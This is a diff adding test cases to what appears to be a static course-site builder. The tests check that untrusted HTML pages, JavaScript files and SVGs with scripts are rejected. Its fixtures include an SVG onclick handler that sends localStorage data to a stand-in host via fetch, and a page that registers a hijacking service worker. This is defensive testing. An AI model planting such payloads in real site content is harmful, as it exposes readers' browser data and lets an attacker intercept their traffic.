@@ -215,6 +215,32 @@ var badInputs = []badInput{
 		"content/id/z.bin": strings.Repeat("z", 2000),
 	}, want: []string{"{site}/content/id/b.md:4:5: dead link", "{site}/content/id/z.bin: is 2.0KB, over the limit of 1KB for files"}},
 
+	// Files that would run on the course's site: a stranger's pull
+	// request cannot publish a page, a script or an SVG with a script,
+	// and every one is reported at once.
+	{name: "page, script and SVG with a script in content", files: map[string]string{
+		"content/id/fig/peta.svg": "<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <rect width=\"4\" height=\"4\" onclick=\"fetch('//x.test/'+localStorage.length)\"/>\n</svg>\n",
+		"content/id/sw.js":        "self.onfetch = (e) => e.respondWith(new Response('x'))\n",
+		"content/id/Hadiah.HTML":  "<script>navigator.serviceWorker.register('/id/sw.js')</script>\n",
+		"content/id/b.md":         "---\ntitle: B\nweight: 2\n---\nAmbil [hadiah](Hadiah.HTML) di ![peta](fig/peta.svg).\n",
+	}, want: []string{
+		"{site}/content/id/Hadiah.HTML: a .html file runs in the reader's browser as a page or a script of the course's site, so it is published only when site.yaml trusts every author of the course (markup: {unsafe: true})",
+		"{site}/content/id/fig/peta.svg:2:3: an event handler (onclick=): a browser runs it when the SVG is opened by itself",
+		"{site}/content/id/sw.js: a .js file runs in the reader's browser",
+		"build failed with 3 errors", // the link and the image to them are not reported again
+	}},
+	{name: "page and SVG with a script when every author is trusted", files: map[string]string{
+		"site.yaml":            "title: Uji\nlanguages: [id, en]\nmarkup: {unsafe: true}\n",
+		"content/id/fig/f.svg": "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>1</script></svg>",
+		"content/id/demo.html": "<p>demo</p>",
+	}, check: func(t *testing.T, out string) {
+		for _, p := range []string{"id/demo.html", "id/fig/f.svg"} {
+			if _, err := os.Stat(filepath.Join(out, p)); err != nil {
+				t.Errorf("trusted, %s is not published: %v", p, err)
+			}
+		}
+	}},
+
 	// Files that cannot be read as files.
 	{name: "symbolic link in a language folder", setup: func(t *testing.T, site, out string) {
 		symlink(t, filepath.Join(site, "..", "elsewhere.md"), filepath.Join(site, "content", "id", "c.md"))
